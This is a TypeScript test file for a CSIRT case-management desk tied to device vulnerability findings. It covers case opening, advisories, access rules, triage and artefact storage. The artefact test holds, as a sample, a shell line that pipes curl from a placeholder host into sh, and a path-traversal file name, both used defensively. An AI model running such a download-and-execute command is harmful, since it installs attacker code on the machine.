import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { join } from 'node:path';
import { test } from 'node:test';
import type { CityReadPort } from '../city/contract.js';
import { DEMO_SIREN_SBOM } from '../demo/demo-security.js';
import { createDeviceSecurityCapability, type DeviceSecurityCapability } from '../device-security/index.js';
import type { VigilError } from '../kernel/errors.js';
import { MemoryEventLog } from '../../test/support/memory-event-log.js';
import { testDevice } from '../../test/support/devices.js';
import { fakePrincipal, testContext } from '../../test/support/test-context.js';
import { MAX_ARTEFACT_BYTES } from './contract.js';
import { csirtLiveView } from './live-view.js';
import { createCsirtCapability } from './index.js';

const PACK = join(import.meta.dirname, '..', '..', '..', 'shared', 'data', 'vuln');
const ORGS: Record<string, string> = { org_city: 'City', org_police: 'Police' };

const device = testDevice;

async function setup() {
  const log = new MemoryEventLog();
  const ctx = testContext(log);
  const devices = [device('dev:siren:1', 'siren', 'org_city'), device('dev:siren:2', 'siren', 'org_city'), device('dev:camera:9', 'camera', 'org_police')];
  const city: CityReadPort = {
    city: null,
    areas: new Map(),
    sites: new Map(),
    zones: new Map(),
    devices: new Map(devices.map((d) => [d.id, d])),
    devicesByAccount: new Map(),
    population: null,
    populationOf: () => null,
  };
  // Wired as src/capabilities.ts does: each side reads the other through its port.
  let desk: ReturnType<typeof createCsirtCapability> | null = null;
  const security: DeviceSecurityCapability = createDeviceSecurityCapability(ctx, {
    city,
    orgName: (id) => ORGS[id] ?? null,
    casesOf: (p, f) => desk!.service.casesOfFinding(p, f),
  });
  desk = createCsirtCapability(ctx, {
    city,
    orgName: (id) => ORGS[id] ?? null,
    actorName: (a) => a,
    findings: { ...security.reads, triage: (id, input, p) => security.service.triage(id, input, p) },
  });
  for (const p of [...security.projections!, ...desk.projections!]) ctx.projections.register(p);
  await ctx.projections.start();
  await desk.start?.();
  const cityAdmin = { ...fakePrincipal(['admin'], 'org_city'), platformOrg: true };
  const police = fakePrincipal(['supervisor'], 'org_police');
  const csirt = { ...fakePrincipal(['csirt'], 'org_city'), actor: 'user:csirt' };
  await security.service.importSbom(DEMO_SIREN_SBOM, {}, csirt);
  for (const id of ['dev:siren:1', 'dev:siren:2'])
    await security.service.registerAsset(
      { cityDeviceId: id, kind: 'siren-controller', vendor: 'Telegrafia', model: 'Bleeper Sonic 1600', firmware: '4.2.0', exposure: 'private' },
      cityAdmin,
    );
  await security.service.registerAsset(
    { cityDeviceId: 'dev:camera:9', vendor: 'Axis Communications AB', model: 'AXIS Q1656-LE', platform: 'AXIS OS', firmware: '11.11.73', exposure: 'private' },
    police,
  );
  await security.service.importPath(PACK, 'user:csirt');
  return { log, ctx, security, desk, csirt, cityAdmin, police };
}

test('csirt × device security: a case from a KEV finding on a siren controller, observables shared, state both ways, the owner told, confidential', async () => {
  const { log, security, desk, csirt, cityAdmin, police } = await setup();
  const kev = security.service.findings(csirt, { kev: true }).findings.find((f) => f.cveId === 'CVE-2024-1086' && f.assetId === 'dev:siren:1');
  assert.ok(kev, 'the known exploited kernel flaw is found in the siren controller');
  const camera = security.service.findings(police).findings[0]!;
  assert.ok(camera, 'the police camera has findings');

  // The police cannot open a case (not the CSIRT) and nobody names a finding it may not act on.
  await assert.rejects(desk.service.openCase(police, { title: 'x', findingIds: [kev.findingId] }), (e: VigilError) => e.code === 'bad_request');
  await assert.rejects(desk.service.openCase(csirt, { title: 'x', findingIds: ['dev:siren:1~CVE-1999-0001'] }), (e: VigilError) => e.code === 'bad_request');

  const opened = await desk.service.openCase(csirt, { title: 'Kernel flaw on siren controllers', findingIds: [kev.findingId] });
  assert.equal(opened.orgId, 'org_city', "the case belongs to the findings' owner");
  assert.equal(opened.severity, 'critical', 'a P1 finding opens a critical case');
  assert.deepEqual(opened.findingIds, [kev.findingId]);
  assert.equal(opened.findings[0]!.state, 'new');
  assert.equal(opened.findings[0]!.kev, true);
  assert.equal(opened.findings[0]!.label, 'siren dev:siren:1', 'the device by its name');
  const cveObs = opened.observables.find((o) => o.type === 'cve')!;
  const devObs = opened.observables.find((o) => o.type === 'device')!;
  assert.equal(cveObs.value, 'CVE-2024-1086');
  assert.equal(devObs.value, 'dev:siren:1');
  // Where the desk took them from, for the page to say in its reader's language (the English note stays for exports).
  assert.deepEqual(cveObs.origin, { kind: 'finding-cve', cve: 'CVE-2024-1086', kev: true });
  assert.deepEqual(devObs.origin, { kind: 'finding-device', device: 'siren dev:siren:1' });
  assert.equal(cveObs.note, 'finding: CVE-2024-1086 (known exploited)');
  // The CVE observable is sighted in both sirens' findings; the device observable in its own findings.
  assert.equal(opened.sightings[cveObs.observableId]!.findingCount, 2);
  assert.ok(opened.sightings[devObs.observableId]!.findingIds!.includes(kev.findingId));
  // The owner organisation is told: one advisory, awaiting its confirmation.
  assert.equal(opened.advisories.length, 1);
  assert.equal(opened.advisories[0]!.orgId, 'org_city');
  assert.match(opened.advisories[0]!.body, /CVE-2024-1086 \(known exploited\) on siren dev:siren:1/);
  assert.deepEqual(opened.advisories[0]!.about, {
    ref: opened.ref,
    findings: [
      {
        cve: 'CVE-2024-1086',
        kev: true,
        device: 'siren dev:siren:1',
        component: kev.component ? `${kev.component.name} ${kev.component.version}` : null,
        priority: kev.priority,
      },
    ],
  });

  // The finding shows the case; the other siren's finding shows it through the shared CVE.
  const seen = security.service.finding(kev.findingId, csirt);
  assert.deepEqual(
    seen.cases?.map((c) => [c.ref, c.via]),
    [[opened.ref, 'linked']],
  );
  const other = security.service.finding(kev.findingId.replace('dev:siren:1', 'dev:siren:2'), cityAdmin);
  assert.deepEqual(
    other.cases?.map((c) => c.via),
    ['cve'],
  );
  // The finding's triage shows on the case.
  await security.service.triage(kev.findingId, { state: 'mitigated', detail: 'siren controller moved to the isolated VLAN' }, cityAdmin);
  assert.equal(desk.service.caseView(csirt, opened.caseId).findings[0]!.state, 'mitigated');
  assert.equal(desk.service.caseView(cityAdmin, opened.caseId).findings[0]!.stateDetail, 'siren controller moved to the isolated VLAN');
  // The open counts (per group of devices alike, less the findings triaged closed) equal counting the open findings one by one.
  for (const orgId of [null, 'org_city', 'org_police']) {
    const open = { P1: 0, P2: 0, P3: 0, P4: 0 };
    for (const f of security.reads.findingsOf(orgId)) if (f.triage.state === 'new' || f.triage.state === 'confirmed') open[f.priority]++;
    assert.deepEqual(security.reads.countsByPriority(orgId), open);
  }
  assert.ok(security.reads.countsByPriority('org_city').P1 < security.service.summary(csirt).all.P1, 'the mitigated P1 is no longer open');

  // Linking the police camera's finding: its device and CVE join, the police are told, and read only the advisory.
  const linked = await desk.service.linkFindings(csirt, opened.caseId, [camera.findingId]);
  assert.equal(linked.findingIds.length, 2);
  assert.ok(linked.observables.some((o) => o.type === 'device' && o.value === 'dev:camera:9'));
  assert.deepEqual(linked.advisories.map((a) => a.orgId).sort(), ['org_city', 'org_police']);
  assert.throws(
    () => desk.service.caseView(police, opened.caseId),
    (e: VigilError) => e.code === 'not_found',
  );
  assert.equal(desk.service.advisories(police).length, 1);
  // A police supervisor sees the camera finding but not the city's case through it.
  assert.deepEqual(security.service.finding(camera.findingId, police).cases, []);
  // Linking again changes nothing and tells nobody twice.
  const before = await log.lastSeq();
  await desk.service.linkFindings(csirt, opened.caseId, [camera.findingId]);
  assert.equal(await log.lastSeq(), before);
});

test('csirt artefacts: hashed, size-limited, read back checked, the hash an observable, bytes kept off the live feed', async () => {
  const { log, desk, csirt, police } = await setup();
  const c = await desk.service.openCase(csirt, { title: 'Phishing against the fire brigade', orgId: 'org_police' });
  const sample = Buffer.from('#!/bin/sh\ncurl http://198.51.100.7/x | sh\n');
  const view = await desk.service.addArtefact(csirt, c.caseId, { name: '../../dropper.sh', declaredType: 'text/x-shellscript', bytes: sample }, { ioc: true });
  const a = view.artefacts[0]!;
  assert.equal(a.name, '.._.._dropper.sh', 'no path in a name');
  assert.equal(a.sha256, createHash('sha256').update(sample).digest('hex'));
  assert.equal(a.bytes, sample.length);
  const obs = view.observables.find((o) => o.type === 'sha256')!;
  assert.equal(obs.value, a.sha256);
  assert.equal(obs.ioc, true);
  assert.deepEqual(obs.origin, { kind: 'artefact', name: '.._.._dropper.sh' });
  // The hash is exported as an indicator.
  const stix = desk.service.exportStix(csirt, c.caseId);
  assert.ok(JSON.stringify(stix).includes(`file:hashes.'SHA-256' = '${a.sha256}'`));
  // Read back, checked against its hash; the owner organisation reads it, nobody else.
  const back = await desk.service.artefact(csirt, a.artefactId);
  assert.deepEqual(back.bytes, sample);
  assert.deepEqual((await desk.service.artefact(police, a.artefactId)).bytes, sample);
  await assert.rejects(desk.service.artefact(fakePrincipal(['supervisor'], 'org_city'), a.artefactId), (e: VigilError) => e.code === 'not_found');
  // Limits: empty, too large, the same file twice.
  await assert.rejects(
    desk.service.addArtefact(csirt, c.caseId, { name: 'x', declaredType: '', bytes: Buffer.alloc(0) }),
    (e: VigilError) => e.code === 'bad_request',
  );
  await assert.rejects(
    desk.service.addArtefact(csirt, c.caseId, { name: 'big.pcap', declaredType: '', bytes: Buffer.alloc(MAX_ARTEFACT_BYTES + 1) }),
    (e: VigilError) => e.code === 'payload_too_large',
  );
  await assert.rejects(
    desk.service.addArtefact(csirt, c.caseId, { name: 'again.sh', declaredType: '', bytes: sample }),
    (e: VigilError) => e.code === 'conflict',
  );
  // The live feed says a file was added, never carries its bytes.
  const [stored] = await log.read({ afterSeq: 0, typePrefixes: ['csirt.case.artefact-added'] });
  const pushed = csirtLiveView().view(csirt, stored!)!;
  assert.equal((pushed.data as { base64?: string }).base64, undefined);
  assert.equal((pushed.data as { artefact: { sha256: string } }).artefact.sha256, a.sha256);
  assert.equal(csirtLiveView().view(fakePrincipal(['supervisor'], 'org_city'), stored!), null);
});

test("csirt triage inside a case: each linked finding moved through its states with who and why, on the finding and the case timeline; only the case's findings, only by the CSIRT", async () => {
  const { security, desk, csirt, cityAdmin, police } = await setup();
  const kev = security.service.findings(csirt, { kev: true }).findings.find((f) => f.cveId === 'CVE-2024-1086' && f.assetId === 'dev:siren:1')!;
  const other = security.service.findings(csirt).findings.find((f) => f.assetId === 'dev:siren:2')!;
  const opened = await desk.service.openCase(csirt, { title: 'Kernel flaw on siren controllers', findingIds: [kev.findingId], notifyOwners: false });
  assert.equal(opened.findings[0]!.stateBy, null, 'nobody moved it yet');

  const confirmed = await desk.service.triageFinding(csirt, opened.caseId, kev.findingId, {
    state: 'confirmed',
    detail: 'kernel 5.10.120 seen on the controller',
  });
  assert.equal(confirmed.findings[0]!.state, 'confirmed');
  assert.equal(confirmed.findings[0]!.stateBy, 'user:csirt');
  assert.equal(confirmed.findings[0]!.stateDetail, 'kernel 5.10.120 seen on the controller');
  assert.equal(security.service.finding(kev.findingId, cityAdmin).triage.state, 'confirmed', 'device security holds the state');
  assert.match(
    confirmed.timeline.at(-1)!.what,
    /^finding CVE-2024-1086 on siren dev:siren:1 → confirmed: kernel 5\.10\.120 seen/,
    'on the timeline, the device by name',
  );

  // Not affected needs a VEX justification.
  await assert.rejects(
    desk.service.triageFinding(csirt, opened.caseId, kev.findingId, { state: 'not-affected', detail: 'module not loaded' }),
    (e: VigilError) => e.code === 'bad_request',
  );
  const vex = await desk.service.triageFinding(csirt, opened.caseId, kev.findingId, {
    state: 'not-affected',
    justification: 'code_not_reachable',
    detail: 'nf_tables not loaded on this build',
  });
  assert.equal(vex.findings[0]!.state, 'not-affected');
  assert.equal(vex.findings[0]!.justification, 'code_not_reachable');
  assert.match(vex.timeline.at(-1)!.what, /not-affected \(code_not_reachable\): nf_tables not loaded/);
  for (const state of ['mitigated', 'fixed', 'new'] as const) {
    const v = await desk.service.triageFinding(csirt, opened.caseId, kev.findingId, { state, detail: `now ${state}` });
    assert.equal(v.findings[0]!.state, state);
  }
  // A triage made on the device-security page joins the case timeline too.
  await security.service.triage(kev.findingId, { state: 'fixed', detail: 'firmware 4.3.1 installed' }, cityAdmin);
  assert.match(desk.service.caseView(csirt, opened.caseId).timeline.at(-1)!.what, /fixed: firmware 4\.3\.1 installed/);

  // Only the case's own findings; only who works the case.
  await assert.rejects(
    desk.service.triageFinding(csirt, opened.caseId, other.findingId, { state: 'fixed', detail: 'x' }),
    (e: VigilError) => e.code === 'bad_request',
  );
  await assert.rejects(
    desk.service.triageFinding(police, opened.caseId, kev.findingId, { state: 'fixed', detail: 'x' }),
    (e: VigilError) => e.code === 'not_found',
  );
  // (The owner's admin may act on its own security data here; the route's role gate keeps case work to the CSIRT: the policy table.)
});
